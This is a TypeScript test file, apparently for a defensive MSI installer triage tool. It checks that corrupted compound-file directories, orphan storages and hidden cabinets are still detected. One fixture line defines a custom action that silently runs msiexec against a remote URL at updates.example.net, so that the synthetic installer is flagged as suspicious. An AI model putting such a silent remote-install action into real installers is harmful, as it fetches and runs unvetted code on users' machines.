import { beforeAll, describe, expect, it } from 'vitest';
import { buildInstaller } from '../../../samples-synthetic/builder/installer.js';
import { buildMsi, databaseStorage } from '../../../samples-synthetic/builder/msi.js';
import { openCompoundFile } from '../../../src/formats/cfb/compound-file.js';
import { decodeStreamName } from '../../../src/formats/msi/stream-name.js';
import { Budget, DEFAULT_LIMITS } from '../../../src/io/budget.js';
import { BytesSource } from '../../../src/io/source.js';
import { triage } from '../../../src/triage.js';

const TYPE_OFFSET = 66;
const CHILD_OFFSET = 76;
const START_SECTOR_OFFSET = 116;
const NO_STREAM = 0xffff_ffff;

let whole: Uint8Array;
/** Where the directory entries of streams lie, by decoded name. */
const entryOf = new Map<string, number>();
let rootOffset: number;

beforeAll(async () => {
  const installer = await buildInstaller({
    name: 'Sample',
    files: [{ id: 'a.txt', directory: 'INSTALLFOLDER', content: new Uint8Array(6000).fill(0x61) }],
    customActions: [{ name: 'Fetch', type: 34, source: 'TARGETDIR', target: FETCH, after: 'InstallFiles' }],
  });
  whole = Uint8Array.from(installer);
  const budget = new Budget(DEFAULT_LIMITS, whole.length);
  const file = await openCompoundFile(new BytesSource(whole), { onProblem: () => {}, budget });
  rootOffset = file.root.offsetInBytes;
  for (const { name, offsetInBytes } of file.entries) entryOf.set(decodeStreamName(name).name, offsetInBytes);
});

const FETCH = 'msiexec.exe /q /i http://updates.example.net/x7fjq2';

/** The package with a change at an offset from the directory entry of a stream. */
function changed(streamName: string, offset: number, value: Uint8Array | number): Uint8Array {
  const at = (entryOf.get(streamName) ?? Number.NaN) + offset;
  const bytes = whole.slice();
  if (typeof value === 'number') new DataView(bytes.buffer).setUint32(at, value, true);
  else bytes.set(value, at);
  return bytes;
}

const codesOf = ({ problems }: Awaited<ReturnType<typeof triage>>) => problems.map(({ code }) => code);

describe('a package with one fault in its directory', () => {
  it('is suspicious and complete without the fault', async () => {
    const report = await triage(whole);
    expect([report.verdict, report.completeness, codesOf(report)]).toEqual(['suspicious', 'complete', []]);
  });

  it.each(['CustomAction', 'InstallExecuteSequence', '_StringPool', '_Columns'])(
    'still has its table %s when that is marked as unused or as a storage',
    async (table) => {
      for (const type of [0, 1]) {
        const report = await triage(changed(table, TYPE_OFFSET, Uint8Array.of(type)));
        expect([report.verdict, report.completeness]).toEqual(['suspicious', 'complete']);
        expect(codesOf(report)).toEqual(['cfb.directory-entry']);
      }
    },
  );

  it('still has its tables and its cabinet when the directory leads to nothing', async () => {
    const bytes = whole.slice();
    new DataView(bytes.buffer).setUint32(rootOffset + CHILD_OFFSET, NO_STREAM, true);
    const report = await triage(bytes);
    expect([report.verdict, report.completeness]).toEqual(['suspicious', 'complete']);
    expect(codesOf(report)).toEqual(['cfb.directory-orphan', 'msi.orphan-table']);
    const cabinet = report.payloads.find(({ source }) => source === 'stream');
    expect(cabinet).toMatchObject({ type: 'cab', facts: { hiddenIn: 'orphan directory entry' } });
    expect(report.payloads.some(({ installPath }) => installPath?.endsWith('a.txt'))).toBe(true);
    expect(report.payloads.filter(({ sha256 }) => sha256 === cabinet?.sha256)).toHaveLength(1);
  });

  it('is no complete package without the mark of a table that others refer to', async () => {
    for (const table of ['_StringPool', '_StringData', '_Columns']) {
      const report = await triage(changed(table, 0, Uint8Array.of(0x41)));
      expect([table, report.input.format, report.completeness]).toEqual([table, 'msi', 'partial']);
    }
  });

  it('is read by its columns where the list of tables is without its mark, which is a problem', async () => {
    const report = await triage(changed('_Tables', 0, Uint8Array.of(0x41)));
    expect(report.package?.tables.map(({ name }) => name)).toContain('CustomAction');
    expect(codesOf(report)).not.toEqual([]);
  });

  it('lists a table without its mark, which Windows Installer does not read, as a stream that nothing refers to', async () => {
    const { input, payloads } = await triage(changed('CustomAction', 0, Uint8Array.of(0x41)));
    expect(input.format).toBe('msi');
    expect(payloads.filter(({ source }) => source === 'unreferenced-stream')).toHaveLength(1);
  });

  it('is not complete when a table has the sectors of another', async () => {
    const start = new DataView(whole.buffer).getUint32(
      (entryOf.get('Property') ?? Number.NaN) + START_SECTOR_OFFSET,
      true,
    );
    const report = await triage(changed('CustomAction', START_SECTOR_OFFSET, start));
    expect(report.completeness).toBe('partial');
    expect(codesOf(report)).toContain('cfb.sector-shared');
  });

  it('is not complete when the stream of its cabinet is none', async () => {
    const bytes = whole.slice();
    bytes[Buffer.from(bytes).indexOf('MSCF')] = 0;
    const report = await triage(bytes);
    expect(report.completeness).toBe('partial');
    expect(codesOf(report)).toContain('cab.not-a-cabinet');
  });
});

describe('a storage that the directory does not lead to', () => {
  it('is visited with what lies in it', async () => {
    const inner = { tables: [], streams: [{ name: 'inner', content: Buffer.from('text in a storage') }] };
    const bytes = Uint8Array.from(buildMsi({ tables: [], storages: [databaseStorage('nested', inner)] }));
    const budget = new Budget(DEFAULT_LIMITS, bytes.length);
    const { root } = await openCompoundFile(new BytesSource(bytes), { onProblem: () => {}, budget });
    new DataView(bytes.buffer).setUint32(root.offsetInBytes + CHILD_OFFSET, NO_STREAM, true);
    const { payloads } = await triage(bytes);
    const storage = payloads.find(({ source }) => source === 'storage');
    expect(storage).toMatchObject({ name: 'nested', facts: { hiddenIn: 'orphan directory entry' } });
    const holders = payloads.filter(({ name }) => name === 'inner').map(({ parent }) => parent);
    expect(holders).toEqual([storage?.id]);
  });
});
